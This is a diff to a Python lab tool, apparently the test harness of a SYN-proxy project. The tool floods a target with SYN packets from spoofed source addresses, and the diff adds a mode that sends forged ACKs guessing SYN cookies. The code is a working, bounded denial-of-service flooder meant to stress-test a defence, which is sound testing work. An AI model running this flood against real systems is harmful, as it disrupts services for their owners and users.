@@ -1,7 +1,8 @@
-"""A bounded SYN flood with spoofed sources, for the lab's attacker host.
+"""A bounded SYN (or forged-ACK) flood with spoofed sources, for the lab's attacker host.
 
-`python3 -m synproxy.lab.flood --target VIP --port 80 --count N --seconds S` sends at most N SYNs for
-at most S seconds from random addresses in the spoofed range, and prints what it sent as JSON.
+`python3 -m synproxy.lab.flood --target VIP --port 80 --count N --seconds S [--ack]` sends at most N
+SYNs (or ACKs with random sequence and acknowledgement numbers: blind cookie guesses) for at most S
+seconds from random addresses in the spoofed range, and prints what it sent as JSON.
 Packets are built by the packet module (no scapy) from a few templates so the loop stays cheap.
 """
 
@@ -14,7 +15,7 @@ import random
 import socket
 import time
 
-from synproxy.packet import SYN, TcpOptions, build_tcp_options, build_tcp_packet
+from synproxy.packet import ACK, SYN, TcpOptions, build_tcp_options, build_tcp_packet
 
 SPOOFED = ipaddress.ip_network("198.18.128.0/17")
 
@@ -25,11 +26,13 @@ def main() -> None:
     parser.add_argument("--port", type=int, default=80)
     parser.add_argument("--count", type=int, default=100_000)
     parser.add_argument("--seconds", type=float, default=10.0)
+    parser.add_argument("--ack", action="store_true", help="forged ACKs (random cookie guesses) instead of SYNs")
     args = parser.parse_args()
     if args.count <= 0 or not 0 < args.seconds <= 600:
         parser.error("--count must be positive and --seconds between 0 and 600")
     target = ipaddress.ip_address(args.target).packed
-    options = build_tcp_options(TcpOptions(mss=1460, wscale=7, sack_permitted=True))
+    flags, options = ((ACK, b"") if args.ack
+                      else (SYN, build_tcp_options(TcpOptions(mss=1460, wscale=7, sack_permitted=True))))
     first, size = int(SPOOFED.network_address), SPOOFED.num_addresses
     rng = random.Random()
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
@@ -39,7 +42,8 @@ def main() -> None:
     while sent < args.count:
         source = (first + rng.randrange(size)).to_bytes(4, "big")
         packet = build_tcp_packet(source, target, rng.randrange(1024, 65536), args.port,
-                                  rng.getrandbits(32), 0, SYN, 64240, options)
+                                  rng.getrandbits(32), rng.getrandbits(32) if args.ack else 0, flags, 64240,
+                                  options)
         try:
             sock.sendto(packet, (args.target, 0))
             sent += 1
